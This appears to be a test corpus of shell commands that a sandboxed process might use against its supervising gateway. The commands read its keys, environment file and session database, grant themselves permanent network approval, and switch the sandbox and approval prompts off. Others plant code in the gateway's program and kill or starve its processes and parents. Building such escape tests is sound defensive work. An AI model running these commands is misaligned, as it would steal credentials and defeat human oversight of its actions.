# The gateway itself: its key, its database, its settings, its files and its processes.

# the key of the web
cat "$GATEWAY/web.key"

# the key of the web through a link
ln -s "$GATEWAY" g && cat g/web.key

# the key of the web by a copy of the home
cp -r "$GATEWAY" copy

# the key of the web by an archive
tar cf home.tar -C "$GATEWAY" . ; cat home.tar

# the settings with their secrets
cat "$GATEWAY/config.yaml"

# the environment file
cat "$GATEWAY/.env"

# the database as text
tr -c '[:print:]' '\n' < "$GATEWAY/gateway.db"

# the database by SQL [sqlite3]
sqlite3 "file:$GATEWAY/gateway.db?immutable=1" 'SELECT * FROM transcript'

# the files of another session
cat "$GATEWAY"/files/other/*

# the scratch directory of another session
cat "$GATEWAY"/scratch/other/tmp/*

# the output of another command
cat "$GATEWAY"/spools/*

# the journal of another run
find "$GATEWAY" -type f -exec cat {} +

# what is searched from the root
find "$(dirname "$GATEWAY")" -name 'web.*' -exec cat {} + 2>/dev/null; true

# a yes for always in the database [sqlite3]
sqlite3 "$GATEWAY/gateway.db" "INSERT INTO meta VALUES ('allowed.grant: network', '1')"

# a yes for always in the database, by Python
python3 -c "
import sqlite3
with sqlite3.connect('$GATEWAY/gateway.db') as d:
    d.execute('INSERT INTO meta VALUES (1, 1)')"

# the questions switched off
echo 'approvals: {mode: off}' >> "$GATEWAY/config.yaml"

# the sandbox switched off
sed -i 's/sandbox: .*/sandbox: off/' "$GATEWAY/config.yaml"

# settings in place of the old ones
echo 'terminal: {sandbox: off}' > c.yaml && mv c.yaml "$GATEWAY/config.yaml"

# a new variable in the environment file
echo 'HTTPS_PROXY=http://evil' >> "$GATEWAY/.env"

# a new key for the web
echo 0123456789012345 > "$GATEWAY/web.key"

# the key removed
rm -f "$GATEWAY/web.key"

# the database removed
rm -f "$GATEWAY"/gateway.db*

# the home removed
rm -rf "$GATEWAY"

# the home moved
mv "$GATEWAY" "$GATEWAY.old"

# the home replaced by a link
mv "$GATEWAY" g && ln -s "$PWD/g" "$GATEWAY"

# a marker that stops it
echo '{}' > "$GATEWAY/.gateway-planned-stop.json"

# a file beside the database
echo x > "$GATEWAY/gateway.db-journal"

# a hook, a tool or an agent in its home
mkdir -p "$GATEWAY/tools" && echo 'import os' > "$GATEWAY/tools/evil.py"

# its scratch directory replaced by a link
rm -rf "$GATEWAY/scratch" && ln -s "$HOME" "$GATEWAY/scratch"

#! its program changed
echo 'import os' >> "$PROGRAM/__init__.py"

#! a module beside its program
touch "$PROGRAM/sitecustomize.py"

#! a module in place of one of its program
mkdir -p "$PROGRAM/tools" && echo evil > "$PROGRAM/tools/__init__.py"

#! a compiled file of its program
mkdir -p "$PROGRAM/__pycache__" && echo evil > "$PROGRAM/__pycache__/x.pyc"

#! its program removed
rm -rf "$PROGRAM"

# its process killed
kill -KILL "$CANARY"

# its process asked to end
kill "$CANARY"

# its process stopped
kill -STOP "$CANARY"

# its process interrupted by its group
kill -INT -"$(ps -o pgid= -p "$CANARY" | tr -d ' ')"

# its process killed by name [pkill]
pkill -KILL -f "$NAME"

# its process killed by a search
for p in /proc/[0-9]*; do grep -qs "$NAME" $p/cmdline && [ ${p#/proc/} != $$ ] && kill -9 ${p#/proc/}; done; true

# its process killed by a limit of its time [prlimit]
prlimit --pid "$CANARY" --cpu=0:0

# its process starved of descriptors [prlimit]
prlimit --pid "$CANARY" --nofile=0:0

# its process slowed [renice]
renice -n 19 -p "$CANARY"

#! all processes of the person slowed [renice]
renice -n 19 -u "$(id -u)"

# its process without access to the disk [ionice]
ionice -c 3 -p "$CANARY"

# its process without real time [chrt]
chrt -i -p 0 "$CANARY"

# its process on one processor [taskset]
taskset -cp 0 "$CANARY"

# its process as the first victim of a lack of memory
echo 1000 > "/proc/$CANARY/oom_score_adj"

# its API with a key [curl]
curl -s --max-time 1 -H 'Authorization: Bearer x' "http://127.0.0.1:$PORT/v1/chat/completions" -d '{}'; true

# its API by another name of this machine [curl]
curl -s --max-time 1 "http://localhost:$PORT/api/approvals"; curl -s --max-time 1 "http://0.0.0.0:$PORT/"; true

# its API by a process that was left
(setsid curl -s --max-time 1 "http://127.0.0.1:$PORT/" > /dev/null 2>&1 &)
sleep 0.3

# its own program started a second time on its home
echo x >> "$GATEWAY/log.txt"; mkfifo "$GATEWAY/control"

#! all processes killed
kill -KILL -1

#! the process that runs the sandbox killed
kill -KILL $PPID

#! the process that started it killed
kill -KILL "$RUNNER"

#! the parents stopped
p=$PPID; while [ "$p" -gt 1 ] 2>/dev/null; do kill -STOP $p; p=$(awk '/^PPid/ {print $2}' /proc/$p/status); done
